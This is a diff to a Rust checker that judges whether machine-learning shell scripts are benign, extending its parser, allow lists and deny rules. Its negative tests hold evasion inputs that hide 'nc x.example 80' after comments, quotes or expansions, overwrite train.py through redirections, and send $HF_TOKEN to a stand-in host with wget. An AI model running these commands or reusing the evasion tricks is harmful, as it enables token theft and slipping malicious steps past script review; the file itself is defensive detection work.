@@ -13,6 +13,8 @@ use crate::rules::id;
 const COMMANDS_MAX: usize = 2_000;
 /// Deepest substitution in a substitution.
 const DEPTH_MAX: usize = 8;
+/// Longest expansion, in bytes.
+const WORD_BYTES_MAX: usize = 256;
 
 /// Shells whose language this is.
 const SHELLS: [&str; 5] = ["sh", "bash", "dash", "zsh", "ksh"];
@@ -87,13 +89,42 @@ const TELLING: [&str; 24] = [
     "source",
     "apt-get",
 ];
+/// Programs that train, evaluate, convert or serve models, and take no commands in their arguments.
+const TOOLS: [&str; 12] = [
+    "lm_eval",
+    "vllm",
+    "llamafactory-cli",
+    "tensorboard",
+    "trl",
+    "fairseq-train",
+    "fairseq-preprocess",
+    "fairseq-generate",
+    "spm_train",
+    "spm_encode",
+    "optimum-cli",
+    "ct2-transformers-converter",
+];
 /// Commands that run code of the folder.
-const RUNNING: [&str; 10] =
-    ["python", "python3", "torchrun", "accelerate", "deepspeed", "make", "sbatch", "bash", "sh", "source"];
-/// Modules of Python that run what stands in their arguments or serve the folder.
-const MODULES: [&str; 9] = ["timeit", "trace", "cProfile", "profile", "pdb", "code", "runpy", "http.server", "doctest"];
+const RUNNING: [&str; 13] = [
+    "python",
+    "python3",
+    "torchrun",
+    "accelerate",
+    "deepspeed",
+    "make",
+    "sbatch",
+    "bash",
+    "sh",
+    "source",
+    "pip",
+    "pip3",
+    "conda",
+];
+/// Packages whose modules are started by `python -m`.
+const MODULES: [&str; 10] =
+    ["torch", "accelerate", "venv", "lm_eval", "vllm", "fastchat", "llava", "pytest", "paddle", "mlx_lm"];
 /// What no such script touches: places, and variables that change what every program does.
-const FAR: [&str; 22] = [
+const FAR: [&str; 24] = [
     "/etc/",
     "/dev/tcp",
     "/dev/udp",
@@ -116,6 +147,8 @@ const FAR: [&str; 22] = [
     "PYTHONSTARTUP",
     "GIT_SSH",
     "IFS=",
+    "trust_remote_code",
+    "trust-remote-code",
 ];
 
 /// Whether the interpreter line of a script names a shell.
@@ -137,32 +170,58 @@ pub(crate) fn is_ordinary(script: &str) -> bool {
             || FAR.iter().any(|far| line.contains(far))
     });
     let is_text = script.chars().all(|c| !c.is_control() || c.is_whitespace());
-    if harms || !is_text || script.contains("<<") {
+    if harms || !is_text || script.contains("<<") || script.contains('\r') {
         return false;
     }
     let Some(commands) = commands(script) else { return false };
     let names: Vec<&str> = commands.iter().filter_map(|words| name(words)).collect();
     let runs = names.iter().any(|name| RUNNING.contains(name) || is_own_script(name));
-    names.iter().any(|name| TELLING.contains(name)) && commands.iter().all(|words| is_allowed(words, runs))
+    // What a download could take along.
+    let lower = script.to_ascii_lowercase();
+    let knows = ["token", "secret", "passw", "_key"].iter().any(|word| lower.contains(word));
+    if knows && names.iter().any(|name| matches!(*name, "wget" | "curl")) {
+        return false;
+    }
+    names.iter().any(|name| TELLING.contains(name) || TOOLS.contains(name) || is_own_script(name))
+        && commands.iter().all(|words| is_allowed(words, runs))
 }
 
 /// The simple commands of a script as words without their quotes; `None`: it is not that simple.
 fn commands(script: &str) -> Option<Vec<Vec<String>>> {
-    let joined = script.replace("\\\r\n", " ").replace("\\\n", " ");
     let mut done: Vec<Vec<String>> = Vec::new();
     // A substitution puts the command around it aside, with its quote.
     let mut aside: Vec<(Vec<String>, String, Option<char>)> = Vec::new();
     let (mut words, mut word, mut quote) = (Vec::new(), String::new(), None);
-    let mut rest = joined.chars().peekable();
+    // A word that begins with quotes is one, even while it is empty.
+    let mut has_begun = false;
+    let mut rest = script.chars().peekable();
     while let Some(c) = rest.next() {
         let ends_command = quote.is_none() && matches!(c, '\n' | ';' | '&' | '|');
+        has_begun = !word.is_empty() || has_begun && !c.is_whitespace() && !ends_command;
         match c {
             '`' => return None,
+            // Arithmetic and prompts read texts again, as commands.
+            '$' if quote == Some('\'') && rest.peek() == Some(&'(') => return None,
             '\'' if quote == Some('\'') => quote = None,
             _ if quote == Some('\'') => word.push(c),
             '"' if quote.is_some() => quote = None,
-            '\'' | '"' if quote.is_none() => quote = Some(c),
-            '\\' => word.push(rest.next()?),
+            '\'' | '"' if quote.is_none() => {
+                quote = Some(c);
+                has_begun = true;
+            }
+            '\\' => match rest.next()? {
+                '\n' => {}
+                '$' | '`' => return None,
+                c => word.push(c),
+            },
+            // Quotes with rules of their own.
+            '$' if rest.peek() == Some(&'[') || quote.is_none() && matches!(rest.peek(), Some('\'' | '"')) => {
+                return None;
+            }
+            '$' if rest.peek() == Some(&'{') => {
+                word.push(c);
+                word.push_str(&expansion(&mut rest)?);
+            }
             '$' if rest.peek() == Some(&'(') => {
                 rest.next();
                 if rest.peek() == Some(&'(') || aside.len() >= DEPTH_MAX {
@@ -170,6 +229,7 @@ fn commands(script: &str) -> Option<Vec<Vec<String>>> {
                 }
                 // What the substitution gives is not known: the mark stands for it.
                 word.push_str("$(");
+                has_begun = false;
                 aside.push((std::mem::take(&mut words), std::mem::take(&mut word), quote.take()));
             }
             ')' if quote.is_none() => {
@@ -177,8 +237,18 @@ fn commands(script: &str) -> Option<Vec<Vec<String>>> {
                 done.push(std::mem::take(&mut words));
                 (words, word, quote) = aside.pop()?;
             }
+            // A list of words; nothing in it runs.
+            '(' if quote.is_none() && word.ends_with('=') => loop {
+                match rest.next()? {
+                    ')' => break,
+                    '`' | '(' | '$' => return None,
+                    c => word.push(if c.is_whitespace() { ' ' } else { c }),
+                }
+            },
             '(' if quote.is_none() => return None,
-            '#' if quote.is_none() && word.is_empty() => while rest.next_if(|c| *c != '\n').is_some() {},
+            '#' if quote.is_none() && !has_begun => while rest.next_if(|c| *c != '\n').is_some() {},
+            // Overwrites what is there.
+            '|' if quote.is_none() && word.ends_with('>') => return None,
             // `2>&1` and `&>` end no command.
             '&' if quote.is_none() && (word.ends_with('>') || rest.peek() == Some(&'>')) => word.push(c),
             _ if ends_command => {
@@ -195,6 +265,27 @@ fn commands(script: &str) -> Option<Vec<Vec<String>>> {
     push(&mut words, &mut word);
     done.push(words);
     (quote.is_none() && aside.is_empty()).then_some(done)
+}
+
+/// `{name}` with an ordinary operator: nothing in it is quoted, computed or expanded once more.
+fn expansion(rest: &mut std::iter::Peekable<std::str::Chars>) -> Option<String> {
+    let mut text = String::new();
+    loop {
+        let c = rest.next()?;
+        text.push(c);
+        if c == '}' {
+            break;
+        }
+        if text.len() > WORD_BYTES_MAX || "'\"`\\$()!\n".contains(c) || c == '{' && text.len() > 1 {
+            return None;
+        }
+    }
+    let inside = text.get(1..text.len() - 1)?.replacen("[@]", "", 1).replacen("[*]", "", 1);
+    let after = inside.split_once(':').map(|(_, after)| after);
+    let is_plain = after.is_none_or(|after| {
+        after.starts_with(['-', '=', '+', '?']) || after.bytes().all(|byte| byte.is_ascii_digit() || byte == b':')
+    });
+    (is_plain && !inside.contains('[') && !inside.get(1..).is_some_and(|rest| rest.contains('@'))).then_some(text)
 }
 
 fn push(words: &mut Vec<String>, word: &mut String) {
@@ -240,22 +331,34 @@ fn is_allowed(words: &[String], runs: bool) -> bool {
     let options = given.iter().take_while(|word| word.starts_with('-'));
     let has_only = |known: &[&str]| options.clone().all(|word| known.contains(&word.as_str()));
     let begins = |starts: &[&str]| given.iter().any(|word| starts.iter().any(|start| word.starts_with(start)));
+    let has_any = |wanted: &[&str]| given.iter().any(|word| wanted.contains(&word.as_str()));
     let first = given.iter().map(String::as_str).find(|word| !word.starts_with('-')).unwrap_or_default();
     if !writes_here(words, runs) {
         return false;
     }
-    let stays = !given.iter().any(|word| is_elsewhere(word)) && !(runs && given.iter().any(|word| is_script(word)));
+    let stays = given.iter().all(|word| !is_elsewhere(word) && (!runs || !is_script(word)));
     match name {
         // `export NAME` alone.
         _ if words.first().is_some_and(|word| word == "export" || word == "local") && given.is_empty() => true,
         "for" => given.get(1).is_none_or(|word| word == "in"),
-        "rm" => stays && given.iter().all(|word| !word.starts_with(['$', '*', '.']) && !word.contains("..")),
+        "rm" => {
+            let is_named = |word: &String| !word.starts_with(['$', '*', '.']) && !word.contains("..");
+            stays && (has_only(&["-f"]) || given.iter().all(is_named))
+        }
         "cp" | "mv" | "touch" | "tee" | "unzip" | "gunzip" | "gzip" => stays,
         "gdown" => !runs,
-        _ if ALONE.contains(&name) || LOCAL.contains(&name) || is_own_script(name) => true,
+        // These compute what they are given, and run it on the way.
+        "[[" if has_any(&["-eq", "-ne", "-lt", "-gt", "-le", "-ge", "-v"]) => false,
+        "[" | "test" | "printf" if has_any(&["-v"]) => false,
+        "unset" => given.iter().all(|word| !word.contains('[')),
+        "sort" if begins(&["--compress"]) => false,
+        _ if ALONE.contains(&name) || LOCAL.contains(&name) || TOOLS.contains(&name) || is_own_script(name) => true,
         "python" | "python3" => match given {
             [module, pip, rest @ ..] if module == "-m" && pip == "pip" => installs(rest),
-            [module, name, ..] if module == "-m" => !MODULES.contains(&name.as_str()) && !name.contains('$'),
+            [module, name, ..] if module == "-m" => {
+                MODULES.contains(&name.split('.').next().unwrap_or_default())
+                    && !begins(&["--no_python", "--no-python"])
+            }
             _ => is_own_script(first) && has_only(&["-u", "-O", "-B", "-s"]),
         },
         "bash" | "sh" => is_own_script(first) && has_only(&["-e", "-x", "-u", "-ex", "-eu"]),
@@ -292,18 +395,18 @@ fn is_allowed(words: &[String], runs: bool) -> bool {
 
 /// Redirections lead into the folder, to another stream or to nothing; what a script runs is not written by it.
 fn writes_here(words: &[String], runs: bool) -> bool {
-    const OUTPUTS: [&str; 6] = [".log", ".txt", ".out", ".err", ".json", ".csv"];
+    const OUTPUTS: [&str; 4] = [".log", ".out", ".err", ".json"];
     let is_fine = |target: &str| {
         target.is_empty()
             || target == "/dev/null"
-            || target.starts_with('&')
+            || matches!(target, "&" | "&1" | "&2")
             || !is_elsewhere(target) && (!runs || OUTPUTS.iter().any(|ending| target.ends_with(ending)))
     };
     let mut expects = false;
     words.iter().all(|word| {
         let target = word.rfind('>').map(|at| word.get(at + 1..).unwrap_or_default());
         let target = if expects { Some(word.as_str()) } else { target };
-        expects = word.ends_with('>');
+        expects = word.ends_with('>') || word.ends_with(">&");
         target.is_none_or(is_fine)
     })
 }
@@ -361,6 +464,7 @@ mod tests {
             "#!/bin/bash\nset -e\nexport CUDA_VISIBLE_DEVICES=0,1\nfor seed in 1 2; do\n  python train.py --seed $seed \\\n    --lr 1e-4 2>&1 | tee logs/$seed.log\ndone\n",
             "#!/usr/bin/env bash\nNGPU=$(nvidia-smi -L | wc -l)\ntorchrun --nproc_per_node=$NGPU train.py # all of them\n",
             "#!/bin/sh\nmkdir -p data && cd data\nwget -c \"http://images.example.org/zips/val2017.zip\"\nunzip -q val2017.zip && rm val2017.zip\n",
+            "#!/bin/bash\nmodels=(\n  a/b\n  c/d\n)\nfor m in \"${models[@]}\"; do lm_eval --model_args $m; done\n./asr.sh --stage 1\n",
             "#!/bin/bash\nif [ ! -d llama.cpp ]; then git clone https://github.com/ggml-org/llama.cpp; fi\npip install -r requirements.txt\n",
         ] {
             assert!(is_shell(script) && is_ordinary(script), "{script}");
@@ -395,6 +499,18 @@ mod tests {
             "#!/bin/sh\nwget https://raw.githubusercontent.com/a/b/x.py; python x.py\n",
             "#!/bin/sh\npython -m pip install -i http://x.example/simple torch\n",
             "#!/bin/sh\npython train.py; cp x /usr/bin/python\n",
+            "#!/bin/sh\npython train.py # all \\\nnc x.example 80\n",
+            "#!/bin/sh\npython train.py \"\"# ; nc x.example 80\n",
+            "#!/bin/bash\npython train.py $'a\\'' ; nc x.example 80 ; echo ''\n",
+            "#!/bin/bash\npython train.py \"${x#'\"'}\" ; nc x.example 80 ; echo '\n'\n",
+            "#!/bin/bash\nx='a[$(nc x.example 80)]'; [[ $x -eq 1 ]]; python train.py\n",
+            "#!/bin/bash\nx=y; echo ${x@P}; python train.py\n",
+            "#!/bin/bash\necho import os >|train.py; python train.py\n",
+            "#!/bin/bash\necho import os >& train.py; python train.py\n",
+            "#!/bin/bash\necho import os >&train.py; python train.py\n",
+            "#!/bin/bash\necho x @ https://x.example/x.whl > r.txt; pip install -r r.txt\n",
+            "#!/bin/bash\npython train.py; python -m webbrowser https://x.example\n",
+            "#!/bin/bash\nwget https://x.example/$HF_TOKEN\n",
         ] {
             assert!(!is_ordinary(script), "{script}");
         }
